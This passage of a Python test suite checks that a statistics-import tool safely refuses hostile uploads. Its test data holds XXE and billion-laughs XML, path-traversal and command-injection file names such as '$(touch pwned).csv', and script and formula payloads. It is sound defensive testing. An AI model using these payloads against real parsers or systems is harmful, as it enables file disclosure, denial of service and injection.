    first_title = re.compile(rb"<t>[^<]*\(hostile-input test\)</t>")  # openpyxl writes character references
    assert first_title.search(sheet)

    def with_title(text: bytes) -> bytes:
        return first_title.sub(b"<t>" + text + b"</t>", sheet, count=1)
    xxe = b'<!DOCTYPE worksheet [<!ENTITY xxe SYSTEM "file://%s">]>' % str(secret).encode()
    deep = b"<a>" * 100_000 + b"</a>" * 100_000
    return {
        "deep sheet": _fake_xlsx({"xl/worksheets/sheet1.xml": b"<worksheet %s><sheetData>%s</sheetData></worksheet>" % (ns, deep)}),
        "deep workbook": _fake_xlsx({"xl/workbook.xml": b"<workbook %s>%s</workbook>" % (ns, deep)}),
        "billion laughs in a sheet": _fake_xlsx({"xl/worksheets/sheet1.xml": _laughs(
            b"worksheet", with_title(b"&l9;"))}),
        "billion laughs in the workbook": _fake_xlsx({"xl/workbook.xml": _laughs(
            b"workbook", workbook.replace(b'name="Sheet"', b'name="&l9;"'))}),
        "billion laughs in shared strings": _fake_xlsx({"xl/sharedStrings.xml": _laughs(
            b"sst", b'<sst %s count="1" uniqueCount="1"><si><t>&l9;</t></si></sst>' % ns)}),
        "external entity in a sheet": _fake_xlsx({"xl/worksheets/sheet1.xml": xxe + with_title(b"&xxe;")}),
        "external entity in the workbook": _fake_xlsx({"xl/workbook.xml": xxe.replace(b"worksheet", b"workbook")
                                                       + workbook.replace(b'name="Sheet"', b'name="&xxe;"')}),
        "100,000 empty cells in one row": _fake_xlsx({"xl/worksheets/sheet1.xml": sheet.replace(
            b"</row>", b"<c/>" * 100_000 + b"</row>", 1)}),
        "a huge cell (9 MB)": _fake_xlsx({"xl/worksheets/sheet1.xml": with_title(b"A" * 9_000_000)}),
        "no worksheet at all": _fake_xlsx({"xl/workbook.xml": re.sub(rb"<sheets>.*</sheets>", b"<sheets/>", workbook)}),
        "sheet part missing": _fake_xlsx({}, drop=("xl/worksheets/sheet1.xml",)),
        "workbook part missing": _fake_xlsx({}, drop=("xl/workbook.xml",)),
        "not xml at all": _fake_xlsx({"xl/worksheets/sheet1.xml": b"\x00\x01 not xml <<<"}),
    }


_AUDIT_WATCH: list[str] = []
_AUDIT_SEEN: list[tuple[str, str]] = []
_AUDIT_EVENTS = {"open", "os.mkdir", "os.rename", "os.remove", "os.rmdir", "os.symlink", "os.link", "os.truncate",
                 "shutil.copyfile", "shutil.move", "shutil.rmtree"}


def _audit(event: str, args: tuple) -> None:
    if not _AUDIT_WATCH or event not in _AUDIT_EVENTS:
        return
    for arg in args[:2]:
        path = os.fsdecode(arg) if isinstance(arg, (str, bytes, os.PathLike)) else ""
        if path and any(mark in path for mark in _AUDIT_WATCH):
            _AUDIT_SEEN.append((event, path))


_AUDIT_INSTALLED = False


@pytest.fixture
def file_watch():
    """Record any file operation whose path contains one of the watched strings (sys.addaudithook)."""
    global _AUDIT_INSTALLED
    if not _AUDIT_INSTALLED:
        sys.addaudithook(_audit)  # audit hooks cannot be removed; it does nothing while nothing is watched
        _AUDIT_INSTALLED = True
    _AUDIT_SEEN.clear()
    yield _AUDIT_WATCH
    _AUDIT_WATCH.clear()
    _AUDIT_SEEN.clear()


@pytest.mark.parametrize("fmt", ["auto", "xlsx", "isa-press"])
def test_hostile_xml_in_a_fake_xlsx_is_refused_quickly(monkeypatch, tmp_path, file_watch, fmt):
    monkeypatch.setenv("WORKFORCE_MAX_XLSX_UNCOMPRESSED_BYTES", str(XLSX_LIMIT))
    secret = tmp_path / f"{SECRET_FILE_MARK}.txt"
    secret.write_text("SECRET-CONTENT", encoding="utf-8")
    cases = _hostile_xml_cases(secret)
    file_watch.append(SECRET_FILE_MARK)
    failures = []
    for name, data in cases.items():
        started = time.monotonic()
        try:
            result = read_file(data, "fake.xlsx", fmt)
        except Exception as error:  # noqa: BLE001
            failures.append(f"{name}: read_file raised {type(error).__name__}: {str(error)[:200]}")
            continue
        elapsed = time.monotonic() - started
        try:
            assert_clear_outcome(result, "fake.xlsx")
        except AssertionError as error:
            failures.append(f"{name}: {error}")
        shown = " ".join(result.figures.astype(str).stack().tolist() + [p.value + p.expected for p in result.problems])
        if "SECRET-CONTENT" in shown:
            failures.append(f"{name}: the external entity was resolved (secret file content in the result)")
        if elapsed > 5:
            failures.append(f"{name}: took {elapsed:.1f} s")
    assert not _AUDIT_SEEN, f"an XML parser opened a file named by the upload: {_AUDIT_SEEN}"
    assert not failures, "\n".join(failures)


_SPARSE_SCRIPT = textwrap.dedent("""
    import io, re, resource, sys, time, zipfile
    resource.setrlimit(resource.RLIMIT_AS, (2 * 1024**3, 2 * 1024**3))
    from workforce.ingest.plan import read_file
    data = sys.stdin.buffer.read()
    started = time.monotonic()
    try:
        result = read_file(data, "sparse.xlsx", sys.argv[1])
    except MemoryError:
        print("MemoryError"); sys.exit(3)
    except Exception as error:
        print(f"raised {type(error).__name__}: {error}"[:300]); sys.exit(4)
    print(f"ok={result.ok} problems={len(result.problems)} seconds={time.monotonic() - started:.1f}")
    sys.exit(0 if not result.ok or not result.figures.empty else 5)
""")


BOUND_SECONDS = 8


def _sparse_workbook(title: str, dimension: str) -> bytes:
    """A ~5 KB workbook: the header in row 1, one data row at row 1,048,576, and a claimed dimension."""
    data = workbook_bytes([(title, [LONG_COLUMNS, list(row().values())])])
    parts = zip_parts(data)
    sheet = parts["xl/worksheets/sheet1.xml"]
    sheet = re.sub(rb'<dimension ref="[^"]*"\s*/>', b'<dimension ref="%s"/>' % dimension.encode(), sheet)
    sheet = sheet.replace(b'<row r="2"', b'<row r="1048576"')
    sheet = re.sub(rb'r="([A-Z]+)2"', rb'r="\g<1>1048576"', sheet)
    parts["xl/worksheets/sheet1.xml"] = sheet
    return zip_from_parts(parts)


@pytest.mark.parametrize("fmt, title, dimension", [
    ("xlsx", "Sheet", "A1:J1048576"),
    ("isa-press", "第５表", "A1:XFD1048576"),
])
def test_a_tiny_sparse_workbook_is_answered_within_a_bound(fmt, title, dimension):
    """Row numbers (and a claimed dimension) cost nothing to write: a 5 KB file must not cost minutes or
    gigabytes. Run in a subprocess with a 2 GB address-space limit and an 8 s timeout."""
    data = _sparse_workbook(title, dimension)
    assert len(data) < 20_000
    try:
        done = subprocess.run([sys.executable, "-c", _SPARSE_SCRIPT, fmt], input=data, capture_output=True,
                              timeout=BOUND_SECONDS, cwd=ROOT, env={**os.environ, "PYTHONPATH": str(ROOT)})
    except subprocess.TimeoutExpired:
        pytest.fail(f"a {len(data):,}-byte workbook ({fmt}, dimension {dimension}, one row at 1,048,576) "
                    f"was still being read after {BOUND_SECONDS} s")
    output = (done.stdout.decode(errors="replace") + done.stderr.decode(errors="replace")[-500:]).strip()
    assert done.returncode == 0, f"{len(data):,}-byte workbook ({fmt}, dimension {dimension}): {output}"
    seconds = float(re.search(r"seconds=([\d.]+)", output)[1])
    assert seconds < 5, f"a {len(data):,}-byte workbook took {seconds} s to read ({fmt}, dimension {dimension})"



def _one_wide_row_workbook(title: str, cells: int) -> bytes:
    """A valid workbook whose row 2 is replaced by one row of `cells` numeric cells (~20 bytes of XML each)."""
    parts = zip_parts(workbook_bytes([(title, [LONG_COLUMNS, list(row().values())])]))
    sheet = parts["xl/worksheets/sheet1.xml"].decode()
    wide = '<row r="2">' + '<c t="n"><v>1</v></c>' * cells + "</row>"
    parts["xl/worksheets/sheet1.xml"] = re.sub(r'<row r="2".*?</row>', wide, sheet, flags=re.S).encode()
    return zip_from_parts(parts)


@pytest.mark.parametrize("fmt, title", [("xlsx", "Sheet"), ("isa-press", "第５表")])
def test_one_row_of_a_million_cells_is_refused_within_a_bound(fmt, title):
    """openpyxl keeps a whole row in memory (about 900 MB for this 60 kB file); the reader must stream it."""
    data = _one_wide_row_workbook(title, 1_000_000)
    assert len(data) < 100_000
    done = subprocess.run([sys.executable, "-c", _SPARSE_SCRIPT, fmt], input=data, capture_output=True,
                          timeout=BOUND_SECONDS * 2, cwd=ROOT, env={**os.environ, "PYTHONPATH": str(ROOT)})
    output = (done.stdout.decode(errors="replace") + done.stderr.decode(errors="replace")[-500:]).strip()
    assert done.returncode == 0, f"{len(data):,}-byte workbook ({fmt}) with one row of a million cells: {output}"
    assert "ok=False" in output, output


# --------------------------------------------------------------------------------------------
# 6. Periods the official readers parse
# --------------------------------------------------------------------------------------------

ESTAT_HEADER = '"tab_code","表章項目","cat01_code","在留資格","cat02_code","国籍・地域","time_code","集計時点（半期毎）","unit","value"'


@FAST
@given(label=st.one_of(st.from_regex(r"[0-9０-９]{4}年([0-9０-９]{1,2}月)?", fullmatch=True), st.text(max_size=12)))
@example(label="0000年6月")
@example(label="2025年13月")
def test_estat_time_labels_are_refused_or_read(label):
    data = (ESTAT_HEADER + f'\n"1","人数","0","総数","0","ベトナム","0","{label}","人","100"\n').encode("utf-8")
    assert_clear_outcome(read(data, "FEH_00250012_hostile.csv", "auto"), "FEH_00250012_hostile.csv")


@MEDIUM
@given(label=st.one_of(st.from_regex(r"(（)?([0-9]{4}年|(令和|平成)([0-9]{1,2}|元)年)([0-9]{1,2}月)?末(）)?", fullmatch=True),
                       st.text(xml_char, max_size=12)))
@example(label="（0000年6月末）")
@example(label="（令和0年6月末）")
def test_isa_period_labels_are_refused_or_read(label):
    rows = [[f"【第５表】都道府県別 国籍・地域別 在留外国人数{label}"], ["都道府県", "総数", "ベトナム"], ["総数", 10, 5]]
    data = workbook_bytes([("第５表", rows)])
    assert_clear_outcome(read(data, "isa.xlsx", "isa-press"), "isa.xlsx")


# --------------------------------------------------------------------------------------------
# 7. Path-like file names: only ever a label
# --------------------------------------------------------------------------------------------

NAME_MARK = "hostile-name-4f1c"
FIXED_NAMES = ["../../etc/passwd", "..\\..\\windows\\win.ini", "C:\\evil.csv", "/etc/shadow", "~/.ssh/id_rsa",
               "\\\\server\\share\\x.csv", "file:///etc/passwd", "nul\x00.csv", "new\nline.csv", "CON", "a" * 600,
               "$(touch pwned).csv", "`id`.csv", "%2e%2e%2fetc%2fpasswd", "<img src=x onerror=alert(1)>.csv"]
path_names = st.one_of(
    st.sampled_from(FIXED_NAMES),
    st.builds(lambda prefix, middle, suffix: prefix + NAME_MARK + middle + suffix,
              st.sampled_from(["", "../../", "..\\..\\", "/", "/tmp/", "C:\\", "\\\\server\\share\\", "~/", "file:///", "./"]),
              st.text(st.characters(blacklist_categories=("Cs",)), max_size=20),
              st.sampled_from([".csv", ".xlsx", "", "\x00.csv", "\n.csv", "/..", "/", "%00.csv"])),
)


@WITH_FOLDERS
@given(name=path_names, content=st.sampled_from(["good csv", "good xlsx", "bad csv", "empty", "bytes"]),
       fmt=st.sampled_from(["auto", "csv", "xlsx"]))
def test_path_like_file_names_are_only_echoed(tmp_path, monkeypatch, file_watch, name, content, fmt):
    data = {"good csv": good_csv(), "good xlsx": good_xlsx(), "bad csv": csv_bytes([row(value="-5")]),
            "empty": b"", "bytes": b"\x89PNG\r\n\x1a\n"}[content]
    workdir = tmp_path / "work" / "deep" / "er"
    workdir.mkdir(parents=True, exist_ok=True)
    monkeypatch.chdir(workdir)  # "../../x" would land inside tmp_path, where it is looked for
    before = sorted(str(p) for p in tmp_path.rglob("*"))
    file_watch[:] = [NAME_MARK, "passwd", "shadow", "evil.csv", "win.ini", "id_rsa", "pwned"]
    result = read(data, name, fmt)
    file_watch.clear()
    assert_clear_outcome(result, name)
    assert not _AUDIT_SEEN, f"the file name was used as a path: {_AUDIT_SEEN}"
    assert sorted(str(p) for p in tmp_path.rglob("*")) == before, "a file appeared under the test's folder"
    assert not list(Path(tempfile.gettempdir()).glob(f"*{NAME_MARK}*")), "a file named after the upload appeared in /tmp"


@pytest.mark.parametrize("name", ["../../etc/passwd", "C:\\evil.csv", "new\nline.csv", "nul\x00.csv",
                                  "<script>alert(1)</script>.csv", "x" * 501 + ".csv"],
                         ids=["dotdot", "windows", "newline", "nul", "script", "long"])
def test_a_hostile_file_name_is_stored_as_a_label_or_refused_on_every_backend(bundled_store, name):
    """The name is recorded with the release exactly as given, or the commit is refused clearly; a name must
    never turn a file that passed the check into a database error, and never leave a partial release."""
    engine = bundled_store
    before = store_snapshot(engine)
    plan = plan_import(engine, good_csv(), name, "csv")
    if text_problem(name):  # markup or a formula in the name is a problem at import (issue 14)
        assert [(p.column, p.message.key) for p in plan.result.problems] == [("file name", text_problem(name))]
        assert not plan.can_commit and store_snapshot(engine) == before
        return
    assert plan.can_commit, problems_text(plan.result)
    try:
        release = commit(engine, plan, actor="tester", note="hostile name")
    except CommitRefused:
        assert store_snapshot(engine) == before
        return
    except sa.exc.DBAPIError as error:
        assert store_snapshot(engine) == before, "a failed commit left a partial release"
        pytest.fail(f"file name {name[:40]!r}: the check passed but the {engine.dialect.name} store refused the "
                    f"commit with {type(error.orig).__name__}: {str(error.orig)[:160]}")
    releases = list_releases(engine)
    assert releases.loc[releases["id"] == release, "file_name"].tolist() == [name]


@pytest.mark.parametrize("char", ["\x00", "\x01", "\x1b", "\x7f", "\u2028", "\ufeff"],
                         ids=["nul", "soh", "esc", "del", "line-separator", "bom"])
def test_characters_past_the_binary_sniffing_window_commit_on_every_backend(bundled_store, char):
    """Binary detection looks at the first 8 KiB only. A character further on that passes the check must
    also commit, exactly, on SQLite and on PostgreSQL (or be refused by the check itself)."""
    engine = bundled_store
    before = store_snapshot(engine)
    rows = [row(prefecture=code, value=str(i), source_title="padding " * 40) for i, code in enumerate(PREFECTURES[:30])]
    rows.append(row(prefecture="47", value="1", source_title=f"title with {char} inside", note=f"note{char}end"))
    data = csv_bytes(rows)
    assert data.index(char.encode("utf-8")) > 8192
    plan = plan_import(engine, data, "late.csv", "csv")
    if not plan.can_commit:
        assert_clear_outcome(plan.result, "late.csv")
        assert not plan.result.ok
        return
    try:
        release = commit(engine, plan, actor="tester", confirm_large_changes=True)
    except sa.exc.DBAPIError as error:
        assert store_snapshot(engine) == before, "a failed commit left a partial release"
        pytest.fail(f"{char!r} after the first 8 KiB passed the check, but the {engine.dialect.name} store refused "
                    f"the commit: {type(error.orig).__name__}: {str(error.orig)[:160]}")
    stored = active_figures(engine, prefecture_code="47", period_end="2011-06-30")
    stored = stored[stored["release_id"] == release]
    assert stored["source_title"].tolist() == [f"title with {char} inside"]
    assert stored["note"].tolist() == [f"note{char}end"]


# --------------------------------------------------------------------------------------------
# 8. A refused file never changes the store, whatever is tried afterwards
# --------------------------------------------------------------------------------------------

DEFECTS = {
    "bad date": {"period_end": "2011-02-30"},
    "month not of the measure": {"period_end": "2011-03-31"},
    "unknown prefecture": {"prefecture": "Atlantis"},
    "negative value": {"value": "-5"},
    "decimal value": {"value": "1.5"},
    "huge value": {"value": "1" * 20},
    "unknown measure": {"measure": "aliens"},
    "unknown breakdown": {"breakdown": "<script>"},
    "javascript url": {"source_url": "javascript:alert(1)"},
    "empty title": {"source_title": ""},
    "bad nationality": {"nationality": "XX"},
    "formula value": {"value": "=1+1"},
}


@dataclass(frozen=True)
class RefusedInput:
    kind: str
    data: bytes
    fmt: str
    large_change: bool = False

    def __repr__(self) -> str:
        return f"RefusedInput({self.kind!r}, fmt={self.fmt!r}, {len(self.data)} bytes, head={self.data[:80]!r})"


@st.composite
def refused_inputs(draw) -> RefusedInput:
    kind = draw(st.sampled_from(["bytes", "defect", "defect-xlsx", "duplicate key", "ragged", "national sum",
                                 "large change"]))
    if kind == "bytes":
        blob = draw(hostile_bytes())
        return RefusedInput(f"bytes/{blob.kind}", blob.data, draw(st.sampled_from(ALL_FORMATS)))
    rows = draw(valid_rows(title=hostile_text(xml_char)))
    if kind in ("defect", "defect-xlsx"):
        name = draw(st.sampled_from(sorted(DEFECTS)))
        index = draw(st.integers(0, len(rows) - 1))
        rows[index] = {**rows[index], **DEFECTS[name]}
        data = csv_bytes(rows) if kind == "defect" else xlsx_from_rows(rows)
        return RefusedInput(f"{kind}/{name}", data, "auto")
    if kind == "duplicate key":
        return RefusedInput(kind, csv_bytes(rows + [rows[0]]), "auto")
    if kind == "ragged":
        return RefusedInput(kind, csv_bytes(rows) + b"2011-06-30,01,VN,residents,total,1\n", "auto")
    if kind == "national sum":
        # The parts add up to 47; with no 未定・不詳 row they may fall short of the national figure, never exceed it.
        national = row(prefecture="00", value=str(46 - draw(st.integers(0, 40))))
        everything = [row(prefecture=code, value="1") for code in PREFECTURES] + [national]
        return RefusedInput(kind, csv_bytes(everything), "auto")
    # A valid file that revises a bundled figure by more than the factor: commit needs confirming. (Downwards,
    # and a part of the national status mix: a revision that breaks no rule across rows.)
    return RefusedInput(kind, csv_bytes([row(period_end="2025-06-30", prefecture="00", breakdown="技能実習",
                                             value=str(draw(st.integers(1, 90_000))))]), "csv", large_change=True)


@settings(WITH_STORE, phases=NO_SHRINK)
@given(case=refused_inputs())
def test_refused_inputs_leave_every_table_unchanged(bundled_store, case):
    engine = bundled_store
    before = store_snapshot(engine)
    crash = None
    try:
        plan = plan_import(engine, case.data, "refused.csv", case.fmt)
    except Exception as error:  # noqa: BLE001 - reported after the store is checked
        crash, plan = error, None
    commit_error = None
    if plan is not None and (case.large_change or not plan.can_commit):
        try:  # unconfirmed large changes; or a plan with problems, "confirmed" anyway
            commit(engine, plan, actor="tester", note="must be refused", confirm_large_changes=not case.large_change)
        except CommitRefused:
            pass
        except Exception as error:  # noqa: BLE001
            commit_error = f"commit raised {type(error).__name__}: {error} instead of CommitRefused"
        else:
            commit_error = "commit did not refuse"
    assert store_snapshot(engine) == before, f"the store changed for {case!r}"
    assert crash is None, f"plan_import raised {type(crash).__name__}: {crash}"
    assert commit_error is None, commit_error
    if case.large_change:
        assert plan.can_commit and len(plan.preview.large) == 1
    else:
        assert not plan.can_commit, f"a bad input could be committed: {case!r}"
        assert_clear_outcome(plan.result, "refused.csv")
